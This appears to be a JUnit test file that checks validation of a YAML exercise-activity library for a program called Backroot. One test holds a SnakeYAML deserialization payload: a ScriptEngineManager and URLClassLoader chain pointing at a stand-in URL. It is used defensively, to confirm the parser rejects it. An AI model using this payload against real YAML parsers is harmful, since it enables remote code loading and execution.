package org.backroot.program.domain;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.backroot.program.domain.LibraryFixtures.activity;
import static org.backroot.program.domain.LibraryFixtures.file;
import static org.backroot.program.domain.LibraryFixtures.library;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ActivityLibraryValidationTest {

    private static LibraryValidationException failure(Runnable load) {
        try {
            load.run();
        } catch (LibraryValidationException e) {
            return e;
        }
        throw new AssertionError("expected a LibraryValidationException");
    }

    private static LibraryValidationException failureOf(Map<String, Object>... activities) {
        return failure(() -> library(activities));
    }

    @Test
    void loadsAValidFile() {
        ActivityLibrary lib = library(activity("a-one", 1), activity("a-two", 2));
        assertThat(lib.size()).isEqualTo(2);
        assertThat(lib.require("a-two").source()).isEqualTo("test.yaml");
        assertThat(lib.versions()).containsEntry("test.yaml", 1);
    }

    @Test
    void rejectsDuplicateIdsAcrossFilesNamingBothFiles() {
        var e = failure(() -> ActivityLibrary.load(List.of(
                new LibrarySource("first.yaml", file(activity("same-id", 1))),
                new LibrarySource("second.yaml", file(activity("same-id", 2))))));
        assertThat(e.getMessage()).contains("second.yaml: activity 'same-id': duplicate id; already used in first.yaml");
        assertThat(e.problems()).hasSize(1);
    }

    @Test
    void rejectsDuplicateIdsWithinAFile() {
        var e = failureOf(activity("same-id", 1), activity("same-id", 1));
        assertThat(e.getMessage()).contains("test.yaml: activity 'same-id': duplicate id; already used earlier in this file");
        assertThat(e.problems()).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"title", "purpose", "component", "targets", "level", "minutes", "dose", "setup", "steps",
            "cues", "whatYouShouldFeel", "stopIf", "flareSafe"})
    void rejectsAMissingRequiredField(String field) {
        var e = failureOf(activity("a-one", 1, a -> a.remove(field)));
        assertThat(e.getMessage()).contains("test.yaml: activity 'a-one': missing required field '" + field + "'");
    }

    @Test
    void anActivityWithoutPosesStopsStartUpNamingTheFileAndTheActivity() {
        var missing = failureOf(activity("a-one", 1, a -> a.remove("figure")));
        assertThat(missing.getMessage()).contains("test.yaml: activity 'a-one': has no figure");

        var empty = failureOf(activity("a-one", 1, a -> a.put("figure", Map.of("posture", "standing", "poses", List.of()))));
        assertThat(empty.getMessage()).contains("test.yaml: activity 'a-one': figure has no poses");
    }

    @Test
    void aFigureWithAnUnknownJointOrPostureOrAnImpossibleAngleStopsStartUp() {
        var e = failureOf(
                activity("a-one", 1, a -> a.put("figure", Map.of("posture", "handstand", "poses", List.of(Map.of())))),
                activity("a-two", 1, a -> a.put("figure", Map.of("posture", "standing", "poses", List.of(Map.of("wrist", 10))))),
                activity("a-three", 1, a -> a.put("figure", Map.of("posture", "standing", "poses", List.of(Map.of(), Map.of("right", Map.of("knee", 190)))))));
        assertThat(e.getMessage())
                .contains("test.yaml: activity 'a-one': figure: unknown posture 'handstand'")
                .contains("test.yaml: activity 'a-two': figure pose 1: unknown joint 'wrist'")
                .contains("test.yaml: activity 'a-three': figure pose 2: right.knee 190 is outside its range 0 to 155");
    }

    @Test
    void namesAnActivityWithoutIdByItsPosition() {
        var e = failureOf(activity("a-one", 1), activity("a-two", 1, a -> a.remove("id")));
        assertThat(e.getMessage()).contains("test.yaml: activity #2: missing required field 'id'");
    }

    @Test
    void rejectsAnUnknownComponent() {
        var e = failureOf(activity("a-one", 1, a -> a.put("component", "moving")));
        assertThat(e.getMessage()).contains("activity 'a-one': unknown component 'moving' (expected one of movement, stress, posture, inflammation, breathing, exposure)");
    }

    @Test
    void rejectsAnUnknownFactor() {
        var e = failureOf(activity("a-one", 1, a -> a.put("targets", Map.of("factors", List.of("movement", "anxiety")))));
        assertThat(e.getMessage()).contains("activity 'a-one': unknown factor 'anxiety' in targets.factors (expected one of movement, stress, posture, inflammation, fear, breathing)");
    }

    @Test
    void rejectsAnUnknownRegion() {
        var e = failureOf(activity("a-one", 1, a -> a.put("targets", Map.of("factors", List.of("movement"), "regions", List.of("knee")))));
        assertThat(e.getMessage()).contains("activity 'a-one': unknown region 'knee' in targets.regions (expected one of ankle, hip, thoracic, shoulder, core)");
    }

    @Test
    void rejectsTargetsWithoutFactors() {
        var e = failureOf(activity("a-one", 1, a -> a.put("targets", Map.of("regions", List.of("hip")))));
        assertThat(e.getMessage()).contains("activity 'a-one': missing required field 'targets.factors'");
        var empty = failureOf(activity("a-one", 1, a -> a.put("targets", Map.of("factors", List.of()))));
        assertThat(empty.getMessage()).contains("activity 'a-one': targets.factors must name at least one factor");
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 5, -1})
    void rejectsALevelOutsideOneToFour(int level) {
        var e = failureOf(activity("a-one", level));
        assertThat(e.getMessage()).contains("activity 'a-one': level must be between 1 and 4, was " + level);
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 61})
    void rejectsMinutesOutsideOneToSixty(int minutes) {
        var e = failureOf(activity("a-one", 1, a -> a.put("minutes", minutes)));
        assertThat(e.getMessage()).contains("activity 'a-one': minutes must be between 1 and 60, was " + minutes);
    }

    @Test
    void rejectsALevelThatIsNotAWholeNumber() {
        var e = failureOf(activity("a-one", 1, a -> a.put("level", "two")));
        assertThat(e.getMessage()).contains("activity 'a-one': field 'level' must be a whole number, was 'two'");
    }

    @Test
    void rejectsABrokenProgressionLink() {
        var e = failureOf(activity("a-one", 1, a -> a.put("progression", "a-missing")));
        assertThat(e.getMessage()).contains("activity 'a-one': progression 'a-missing' is not an activity in the library");
    }

    @Test
    void rejectsABrokenRegressionLink() {
        var e = failureOf(activity("a-one", 2, a -> a.put("regression", "a-missing")));
        assertThat(e.getMessage()).contains("activity 'a-one': regression 'a-missing' is not an activity in the library");
    }

    @Test
    void rejectsAProgressionCycle() {
        var e = failureOf(
                activity("a-one", 2, a -> a.put("progression", "a-two")),
                activity("a-two", 2, a -> a.put("progression", "a-three")),
                activity("a-three", 2, a -> a.put("progression", "a-one")));
        assertThat(e.getMessage()).contains("activity 'a-one': progression links form a cycle: a-one -> a-two -> a-three -> a-one");
        assertThat(e.problems()).hasSize(1);
    }

    @Test
    void rejectsARegressionCycle() {
        var e = failureOf(
                activity("a-one", 2, a -> a.put("regression", "a-two")),
                activity("a-two", 2, a -> a.put("regression", "a-one")));
        assertThat(e.getMessage()).contains("regression links form a cycle: a-one -> a-two -> a-one");
    }

    @Test
    void rejectsAProgressionToALowerLevel() {
        var e = failureOf(activity("a-one", 3, a -> a.put("progression", "a-two")), activity("a-two", 2));
        assertThat(e.getMessage()).contains("activity 'a-one': progression 'a-two' is level 2, lower than this activity's level 3; a progression must be the same level or higher");
    }

    @Test
    void rejectsARegressionToAHigherLevel() {
        var e = failureOf(activity("a-one", 1, a -> a.put("regression", "a-two")), activity("a-two", 2));
        assertThat(e.getMessage()).contains("activity 'a-one': regression 'a-two' is level 2, higher than this activity's level 1; a regression must be the same level or lower");
    }

    @Test
    void rejectsAProgressionIntoAnotherComponent() {
        var e = failureOf(
                activity("a-one", 1, a -> a.put("progression", "a-two")),
                activity("a-two", 2, a -> {
                    a.put("component", "breathing");
                    a.put("targets", Map.of("factors", List.of("breathing")));
                }));
        assertThat(e.getMessage()).contains("activity 'a-one': progression 'a-two' is a breathing activity; a progression must stay in the same component (movement)");
    }

    @Test
    void rejectsALinkToItself() {
        var e = failureOf(activity("a-one", 1, a -> a.put("progression", "a-one")));
        assertThat(e.getMessage()).contains("activity 'a-one': progression must not point to the activity itself");
    }

    @Test
    void rejectsEmptySteps() {
        var e = failureOf(activity("a-one", 1, a -> a.put("steps", List.of())));
        assertThat(e.getMessage()).contains("activity 'a-one': steps must list at least one step");
    }

    @Test
    void rejectsABlankStep() {
        var e = failureOf(activity("a-one", 1, a -> a.put("steps", List.of("Lift.", " "))));
        assertThat(e.getMessage()).contains("activity 'a-one': steps entry 2 must not be blank");
    }

    @Test
    void rejectsEmptyCues() {
        var e = failureOf(activity("a-one", 1, a -> a.put("cues", List.of())));
        assertThat(e.getMessage()).contains("activity 'a-one': cues must list 2 to 4 cues, has 0");
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 5})
    void rejectsTooFewOrTooManyCues(int count) {
        var e = failureOf(activity("a-one", 1, a -> a.put("cues", java.util.Collections.nCopies(count, "A cue."))));
        assertThat(e.getMessage()).contains("activity 'a-one': cues must list 2 to 4 cues, has " + count);
    }

    @Test
    void rejectsAnIdThatIsNotKebabCase() {
        var e = failureOf(activity("Hip_Bridge", 1));
        assertThat(e.getMessage()).contains("activity 'Hip_Bridge': id must be lowercase kebab-case");
    }

    @Test
    void rejectsAnUnknownFieldSoTyposAreCaught() {
        var e = failureOf(activity("a-one", 1, a -> a.put("progresion", "a-two")));
        assertThat(e.getMessage()).contains("activity 'a-one': unknown field 'progresion'");
    }

    @Test
    void rejectsAnUnknownDoseField() {
        var e = failureOf(activity("a-one", 1, a -> a.put("dose", Map.of("repetitions", 10))));
        assertThat(e.getMessage()).contains("activity 'a-one': unknown field 'dose.repetitions'");
    }

    @Test
    void rejectsAnEmptyDose() {
        var e = failureOf(activity("a-one", 1, a -> a.put("dose", Map.of("perSide", false))));
        assertThat(e.getMessage()).contains("activity 'a-one': dose must give at least one of");
    }

    @Test
    void rejectsPerSideDoseOnAnActivityThatIsNotSided() {
        var e = failureOf(activity("a-one", 1, a -> a.put("dose", Map.of("reps", 10, "perSide", true))));
        assertThat(e.getMessage()).contains("activity 'a-one': dose.perSide is true but sided is false");
    }

    @Test
    void rejectsABreathingRateThatDoesNotMatchTheRhythm() {
        var e = failureOf(activity("a-one", 1, a -> a.put("dose", Map.of("breathsPerMin", 6, "inhaleSec", 4, "exhaleSec", 4))));
        assertThat(e.getMessage()).contains("activity 'a-one': dose.breathsPerMin 6 does not match inhaleSec 4 + exhaleSec 4 (7.5 breaths a minute)");
    }

    @Test
    void rejectsAnInhaleWithoutAnExhale() {
        var e = failureOf(activity("a-one", 1, a -> a.put("dose", Map.of("inhaleSec", 4))));
        assertThat(e.getMessage()).contains("activity 'a-one': dose.inhaleSec and dose.exhaleSec must be given together");
    }

    @Test
    void rejectsADurationLongerThanTheSession() {
        var e = failureOf(activity("a-one", 1, a -> a.put("dose", Map.of("durationMin", 10))));
        assertThat(e.getMessage()).contains("activity 'a-one': dose.durationMin 10 is longer than minutes 5");
    }

    @Test
    void rejectsATimerLongerThanTheSession() {
        var e = failureOf(activity("a-one", 1, a -> a.put("timerSec", 301)));
        assertThat(e.getMessage()).contains("activity 'a-one': timerSec must be between 1 and 300 seconds (the session length), was 301");
    }

    @Test
    void rejectsAPacerOutsideItsRange() {
        var e = failureOf(activity("a-one", 1, a -> a.put("pacer", Map.of("inhaleSec", 0, "exhaleSec", 6))));
        assertThat(e.getMessage()).contains("activity 'a-one': pacer.inhaleSec must be between 1 and 20 seconds, was 0");
        var missing = failureOf(activity("a-one", 1, a -> a.put("pacer", Map.of("inhaleSec", 4))));
        assertThat(missing.getMessage()).contains("activity 'a-one': missing required field 'pacer.exhaleSec'");
    }

    @Test
    void rejectsAPurposeOfMoreThanOneLine() {
        var e = failureOf(activity("a-one", 1, a -> a.put("purpose", "First line.\nSecond line.")));
        assertThat(e.getMessage()).contains("activity 'a-one': purpose must be a single line");
    }

    @Test
    void rejectsTextThatIsNotText() {
        var e = failureOf(activity("a-one", 1, a -> a.put("title", true)));
        assertThat(e.getMessage()).contains("activity 'a-one': field 'title' must be text, was true/false 'true' (put it in quotes)");
    }

    @Test
    void rejectsWordingBackrootDoesNotUse() {
        var e = failureOf(activity("a-one", 1, a -> a.put("whatYouShouldFeel", "Nothing here will cause damage.")));
        assertThat(e.getMessage()).contains("activity 'a-one': whatYouShouldFeel uses 'damage', wording Backroot does not use");
        var core = failureOf(activity("a-two", 1, a -> a.put("steps", List.of("Lift.", "Good for a Weak Core."))));
        assertThat(core.getMessage()).contains("activity 'a-two': steps 2 uses 'weak core'");
    }

    @Test
    void rejectsAFileWithoutVersion() {
        var e = failure(() -> ActivityLibrary.load("no-version.yaml", "activities:\n  - id: x\n"));
        assertThat(e.getMessage()).contains("no-version.yaml: missing required field 'version'");
    }

    @Test
    void rejectsAVersionThatIsNotAPositiveWholeNumber() {
        var e = failure(() -> ActivityLibrary.load("v.yaml", file(activity("a-one", 1)).replace("version: 1", "version: 0")));
        assertThat(e.getMessage()).contains("v.yaml: version must be a positive whole number, was '0'");
    }

    @Test
    void rejectsAFileWithoutActivities() {
        var e = failure(() -> ActivityLibrary.load("empty.yaml", "version: 1\nactivities: []\n"));
        assertThat(e.getMessage()).contains("empty.yaml: activities must be a non-empty list");
        var none = failure(() -> ActivityLibrary.load("none.yaml", ""));
        assertThat(none.getMessage()).contains("none.yaml: must be a map with 'version' and 'activities', was empty");
    }

    @Test
    void rejectsAnUnknownTopLevelField() {
        var e = failure(() -> ActivityLibrary.load("top.yaml", "verison: 1\n" + file(activity("a-one", 1))));
        assertThat(e.getMessage()).contains("top.yaml: unknown top-level field 'verison'");
    }

    @Test
    void rejectsYamlThatDoesNotParse() {
        var e = failure(() -> ActivityLibrary.load("broken.yaml", "version: 1\nactivities:\n  - id: [unclosed\n"));
        assertThat(e.getMessage()).contains("broken.yaml: not valid YAML:");
    }

    @Test
    void rejectsAKeyGivenTwice() {
        var e = failure(() -> ActivityLibrary.load("twice.yaml", "version: 1\nversion: 2\nactivities: []\n"));
        assertThat(e.getMessage()).contains("twice.yaml: not valid YAML:").contains("version");
    }

    @Test
    void refusesYamlTagsThatWouldBuildJavaObjects() {
        var e = failure(() -> ActivityLibrary.load("evil.yaml",
                "version: 1\nactivities:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid\"]]]]\n"));
        assertThat(e.getMessage()).contains("evil.yaml: not valid YAML:");
    }

    @Test
    void rejectsTheSameFileNameTwice() {
        var e = failure(() -> ActivityLibrary.load(List.of(
                new LibrarySource("a.yaml", file(activity("a-one", 1))),
                new LibrarySource("a.yaml", file(activity("a-two", 1))))));
        assertThat(e.getMessage()).contains("a.yaml: file name is used twice");
    }

    @Test
    void reportsEveryProblemAtOnceOneLineEach() {
        var e = failureOf(
                activity("a-one", 7),
                activity("a-two", 1, a -> a.put("component", "moving")),
                activity("a-three", 1, a -> a.put("progression", "a-nowhere")));
        assertThat(e.problems()).extracting(LibraryProblem::activityId).containsExactly("a-one", "a-two", "a-three");
        assertThat(e.getMessage()).startsWith("activity library is invalid (3 problems):")
                .contains("\n  - test.yaml: activity 'a-one': level")
                .contains("\n  - test.yaml: activity 'a-two': unknown component")
                .contains("\n  - test.yaml: activity 'a-three': progression 'a-nowhere'");
    }

    @Test
    void doesNotReportALinkToAnActivityThatHasItsOwnProblem() {
        var e = failureOf(
                activity("a-one", 1, a -> a.put("progression", "a-two")),
                activity("a-two", 2, a -> a.put("minutes", 99)));
        assertThat(e.problems()).hasSize(1);
        assertThat(e.problems().get(0).activityId()).isEqualTo("a-two");
    }

    @Test
    void parserReturnsTheFileWithItsVersionAndActivities() {
        LibraryFile parsed = new LibraryParser().parse("one.yaml", file(activity("a-one", 1, a -> {
            a.put("sided", true);
            a.put("dose", Map.of("reps", 8, "perSide", true, "holdSec", 5));
            a.put("equipment", List.of("a wall"));
            a.put("cueFading", List.of("Week 1 - reminders.", "Week 2 - none."));
            a.put("pacer", Map.of("inhaleSec", 4, "exhaleSec", 6));
            a.put("voice", Map.of("in", "Breathe in", "out", "And out"));
            a.put("timerSec", 120);
        })));
        assertThat(parsed.version()).isEqualTo(1);
        Activity a = parsed.activities().get(0);
        assertThat(a.sided()).isTrue();
        assertThat(a.dose().perSide()).isTrue();
        assertThat(a.dose().reps()).isEqualTo(8);
        assertThat(a.dose().holdSec()).isEqualTo(5);
        assertThat(a.equipment()).containsExactly("a wall");
        assertThat(a.cueFading()).hasSize(2);
        assertThat(a.pacer()).isEqualTo(new ActivityPacer(4, 6));
        assertThat(a.pacer().breathsPerMinute()).isEqualTo(6.0);
        assertThat(a.timerSec()).isEqualTo(120);
        assertThat(a.targets().factors()).containsExactly(ActivityTargets.Factor.MOVEMENT);
        assertThat(a.targets().regions()).containsExactly(ActivityTargets.Region.HIP);
    }

    @Test
    void parserThrowsForOneBadFile() {
        assertThatThrownBy(() -> new LibraryParser().parse("bad.yaml", file(activity("a-one", 9))))
                .isInstanceOf(LibraryValidationException.class)
                .hasMessage("activity library is invalid: bad.yaml: activity 'a-one': level must be between 1 and 4, was 9");
    }
}
